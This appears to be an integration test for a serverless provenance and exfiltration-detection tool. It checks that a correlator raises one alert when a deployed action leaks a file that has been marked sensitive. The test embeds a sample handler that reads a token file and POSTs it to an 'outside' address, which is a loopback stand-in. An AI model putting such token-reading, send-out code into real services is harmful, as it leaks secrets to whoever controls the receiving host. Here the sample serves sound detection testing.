// custom.provenance reaches the correlator: a service deployed with the real serverless v3 CLI to
// the embedded platform, whose correlator is the local sink (as in `provenance local start` and the
// demo). Deployed first with only an alert hook, its action reads a token file and POSTs it to an
// outside address (127.0.0.66): nothing is sensitive by default, so no incident. Redeployed with
// `sensitive.secrets: [token.json]`, the correlator picks the new settings up by itself (version
// check) and the next run is an exfiltration incident, delivered once to the service's hook (a
// loopback receiver), also when every batch is delivered again.
import * as fs from 'node:fs';
import { createServer } from 'node:http';
import * as path from 'node:path';
import openwhisk from 'openwhisk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Batch } from '../protocol/batch';
import type { Platform } from '../invokers/local/index';
import type { ProvenanceStore } from '../store/index';
import type { Incident } from '../upg/analyses/types';
import { assertBuilt, makeService, sls, stopAllThenRemove } from './plugin-harness';
import { listenOn, serverlessEnv, startStoreAndPlatform, wrappedServiceYml } from './platform-harness';

process.env.AWS_SDK_JS_NODE_VERSION_SUPPORT_WARNING_DISABLED = 'true';

const SERVICE = 'cfgflow';
const ACTION = `${SERVICE}-dev-leak`;
const OUTSIDE = '127.0.0.66';

const stops: Array<() => unknown> = [];
const dirs: string[] = [];
const platformLog: string[] = [];
const sinkLog: string[] = [];
const batches: Batch[] = [];
const alerts: Incident[] = [];
let store: ProvenanceStore;
let platform: Platform;
let sink: (batch: Batch) => Promise<void>;
let alertUrl: string;
let outsidePort: number;
let received = 0;
let env: Record<string, string> & { HOME: string };
let serviceDir: string;

beforeAll(async () => {
  assertBuilt();

  // the service's alert hook: a receiver on a loopback address
  const receiver = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => (body += c));
    req.on('end', () => {
      alerts.push((JSON.parse(body) as { incident: Incident }).incident);
      res.writeHead(204).end();
    });
  });
  alertUrl = `http://127.0.0.1:${await listenOn({ stops }, receiver, '127.0.0.1')}/incidents`;
  // the outside address the action leaks to
  const outside = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      received++;
      res.writeHead(200).end('ok');
    });
  });
  outsidePort = await listenOn({ stops }, outside, OUTSIDE);

  const started = await startStoreAndPlatform(
    { stops, dirs },
    { prefix: 'config-flow', correlator: 'local-sink', onBatch: (batch) => batches.push(batch), platformLog, sinkLog, announce: true },
  );
  ({ store, platform } = started);
  sink = started.sink!;
  env = serverlessEnv({ dirs }, platform, { PROVENANCE_STORE: started.storeDir });
  serviceDir = makeService({
    'serverless.yml': serviceYml(false),
    'handlers/leak.js': [
      "const fs = require('fs');",
      "const http = require('http');",
      "const path = require('path');",
      'exports.main = async (params) => {',
      "  const token = fs.readFileSync(path.join(__dirname, '..', 'vault', 'token.json'), 'utf8');",
      '  await new Promise((resolve, reject) => {',
      "    const req = http.request({ host: params.host, port: params.port, method: 'POST', path: '/collect' }, (res) => { res.resume(); res.on('end', resolve); });",
      "    req.on('error', reject);",
      '    req.end(token);',
      '  });',
      '  return { sent: token.length };',
      '};',
      '',
    ].join('\n'),
    'vault/token.json': '{"token":"s3cr3t"}\n',
  });
  dirs.push(serviceDir);
}, 120_000);

afterAll(() => stopAllThenRemove(stops, dirs));

function serviceYml(sensitive: boolean): string {
  return wrappedServiceYml(SERVICE, { leak: 'handlers/leak.main' }, [
    '  provenance:',
    `    alerts: ${alertUrl}`,
    ...(sensitive ? ['    sensitive:', '      secrets: [token.json]'] : []),
  ]);
}

async function deploy(args: string[]): Promise<string> {
  const result = await sls(serviceDir, args, env, 120_000);
  expect(result.code, result.output).toBe(0);
  return result.output;
}

/** Runs the action once and waits until the correlator has ingested (and analysed) its batches. */
async function leakOnce(): Promise<void> {
  const ow = openwhisk({ apihost: platform.apihost, api_key: platform.auth });
  const before = received;
  const result = await ow.actions.invoke({ name: ACTION, blocking: true, result: true, params: { host: OUTSIDE, port: outsidePort } });
  expect(result).toEqual({ sent: 19 });
  expect(received).toBe(before + 1);
  await platform.flush();
}

const exfiltrations = async () => (await store.listIncidents()).filter((i) => i.kind === 'exfiltration');

describe('custom.provenance reaches the correlator', () => {
  it('deploy stores the settings; a redeploy with sensitive data makes the next leak an incident, alerted once', async () => {
    // 1. Only the alert hook: the token file is not sensitive by default.
    await deploy(['deploy']);
    const [first] = await store.listServiceConfigs();
    // the plugin asked the API host whose the deploy key is: the settings are that namespace's
    expect(first).toMatchObject({ namespace: platform.namespace, service: SERVICE, stage: 'dev', actions: [`${platform.namespace}/${ACTION}`], alerts: alertUrl });
    expect(first!.sensitive).toBeUndefined();
    const v1 = await store.serviceConfigVersion();
    expect(v1).toBeGreaterThan(0);

    await leakOnce();
    expect(sinkLog.join('\n')).not.toMatch(/refused|failed|not delivered/);
    expect(await exfiltrations()).toEqual([]);
    expect(alerts).toEqual([]);

    // 2. Redeploy with sensitive: a new version; `deploy -f` with the same settings changes nothing.
    fs.writeFileSync(path.join(serviceDir, 'serverless.yml'), serviceYml(true));
    const output = await deploy(['deploy', '--verbose']);
    expect(output).toMatch(/analysis settings of cfgflow\/dev \(1 action\(s\)\) stored/);
    const v2 = await store.serviceConfigVersion();
    expect(v2).toBeGreaterThan(v1);
    expect(await store.listServiceConfigs()).toEqual([expect.objectContaining({ sensitive: { secrets: ['token.json'] }, alerts: alertUrl })]);
    expect(await deploy(['deploy', '-f', 'leak', '--verbose'])).toMatch(/analysis settings of cfgflow\/dev \(1 action\(s\)\) unchanged/);
    expect(await store.serviceConfigVersion()).toBe(v2);

    // 3. The next leak: found with the service's settings, delivered to the service's hook.
    const firstOfSecondLeak = batches.length;
    await leakOnce();
    const found = await exfiltrations();
    expect(found, sinkLog.join('\n')).toHaveLength(1);
    const [incident] = found;
    expect(incident).toMatchObject({
      kind: 'exfiltration',
      artifact: { kind: 'file', path: expect.stringMatching(/\/vault\/token\.json$/) },
      sink: { address: OUTSIDE, port: outsidePort },
      planter: { action: `/${platform.namespace}/${ACTION}` },
    });
    expect(alerts.map((a) => a.id)).toEqual([incident!.id]);

    // 4. The leak's batches delivered again (an agent retry): the same incident, no second alert.
    // (Replaying the first leak's batches would report it too: it is judged by today's settings.)
    for (const batch of batches.slice(firstOfSecondLeak)) await sink(batch);
    expect((await exfiltrations()).map((i) => i.id)).toEqual([incident!.id]);
    expect(alerts.map((a) => a.id)).toEqual([incident!.id]);
    expect(sinkLog.join('\n')).not.toMatch(/refused|failed|not delivered/);
  }, 300_000);
});
